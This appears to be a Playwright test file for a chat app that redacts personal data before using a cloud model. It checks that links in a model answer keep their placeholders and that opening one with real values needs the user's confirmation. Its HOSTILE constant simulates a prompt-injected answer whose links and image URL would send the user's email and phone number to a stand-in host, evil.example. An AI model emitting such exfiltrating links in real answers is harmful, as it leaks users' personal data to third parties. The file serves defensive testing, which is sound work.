/**
 * Issue 15, finding 2: a cloud answer that puts placeholders into link targets must not get the
 * user's real values into any URL. The values appear in the answer's text; a link that would carry
 * them asks first, showing the full URL, and opens it only when the user says so.
 */
import { test, expect } from './fixtures';

const LOCAL = { loadedModel: 'test-engine-small-q4f32', tokens: ['A local ', 'answer.'] };
const EMAIL = 'maria.gonzalez@example.com';
const PHONE_DIGITS = '4155550132';

// What a prompt-injected model might answer (the stub streams it word by word).
const HOSTILE =
  'Here is the draft for [PERSON_1]. ' +
  '[Open the statement](<https://evil.example/s?m=[EMAIL_1]&tel=[PHONE_1]>) or see ' +
  '[the reference][r], <https://evil.example/a?m=[EMAIL_1]> and ' +
  '![logo](https://evil.example/p.png?tel=[PHONE_1])\n\n' +
  '[r]: https://evil.example/r?m=[EMAIL_1]';

const digits = (s: string) => s.replace(/\D/g, '');

test('links in an answer keep their placeholders; opening one with real values needs a confirmation', async ({
  chat,
  stub,
  page,
}) => {
  await page
    .context()
    .route('https://evil.example/**', (route) =>
      route.fulfill({ contentType: 'text/plain', body: 'evil' }),
    );
  await stub.reset({ kind: 'normal', reply: HOSTILE });
  await chat.useTestEngine(LOCAL);
  await chat.open('/');
  await chat.send(
    `Please draft a short, friendly reply to Maria Gonzalez (${EMAIL}, +1 415 555 0132) ` +
      'thanking her for the quick turnaround on the quarterly report.',
  );
  await expect(chat.badge()).toHaveText('Cloud (redacted)');
  const answer = chat.lastAnswer();
  // The values are back in the text...
  await expect(answer).toContainText('Here is the draft for Maria Gonzalez.');
  await expect(answer).toContainText(`https://evil.example/a?m=${EMAIL}`);

  // ...and in no attribute of the answer: every href keeps its placeholders.
  const checkAttributes = async () => {
    const attributes = await answer.evaluate((el) =>
      [...el.querySelectorAll('*')].flatMap((n) => [...n.attributes].map((a) => a.value)),
    );
    const hrefs = await answer
      .locator('a[href]')
      .evaluateAll((as) => as.map((a) => decodeURIComponent(a.getAttribute('href') ?? '')));
    expect(hrefs.length).toBe(4);
    for (const h of hrefs) expect(h).toMatch(/\[(EMAIL|PHONE)_1\]/);
    for (const v of attributes) {
      const decoded = decodeURIComponent(v);
      expect(decoded).not.toContain(EMAIL);
      expect(digits(decoded)).not.toContain(PHONE_DIGITS);
    }
  };
  await checkAttributes();

  // Clicking asks first and shows the full URL with the values.
  const link = answer.getByRole('link', { name: /Open the statement/ });
  await link.click();
  const dialog = page.getByRole('dialog', { name: 'Open a link with your personal data?' });
  await expect(dialog).toBeVisible();
  await expect(dialog.getByTestId('personal-link-url')).toContainText(
    `https://evil.example/s?m=${EMAIL}&tel=+1 415 555 0132`,
  );
  await expect(dialog).toContainText('evil.example');
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(dialog).toBeHidden();
  expect(page.context().pages()).toHaveLength(1);

  // "Open without my data" opens the link as written.
  await link.click();
  const [withoutData] = await Promise.all([
    page.waitForEvent('popup'),
    dialog.getByRole('button', { name: 'Open without my data' }).click(),
  ]);
  await withoutData.waitForLoadState();
  expect(decodeURIComponent(withoutData.url())).toContain('m=[EMAIL_1]');
  expect(decodeURIComponent(withoutData.url())).not.toContain(EMAIL);
  await withoutData.close();

  // Only "Open with my data" sends the values.
  await link.click();
  const [withData] = await Promise.all([
    page.waitForEvent('popup'),
    dialog.getByRole('button', { name: 'Open with my data' }).click(),
  ]);
  await withData.waitForLoadState();
  expect(decodeURIComponent(withData.url())).toContain(`m=${EMAIL}`);
  await withData.close();

  // The stored answer renders the same way after a reload.
  await page.reload();
  await expect(chat.lastAnswer()).toContainText('Here is the draft for Maria Gonzalez.');
  await checkAttributes();
});
